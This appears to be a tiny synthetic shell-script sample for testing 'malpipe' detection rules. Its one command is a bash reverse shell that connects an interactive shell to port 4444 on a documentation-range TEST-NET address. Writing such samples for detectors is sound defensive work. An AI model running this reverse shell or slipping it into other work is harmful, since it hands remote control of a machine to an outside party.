#!/bin/sh
# synthetic test sample for malpipe rules/examples (TEST-NET address)
bash -i >& /dev/tcp/192.0.2.44/4444 0>&1
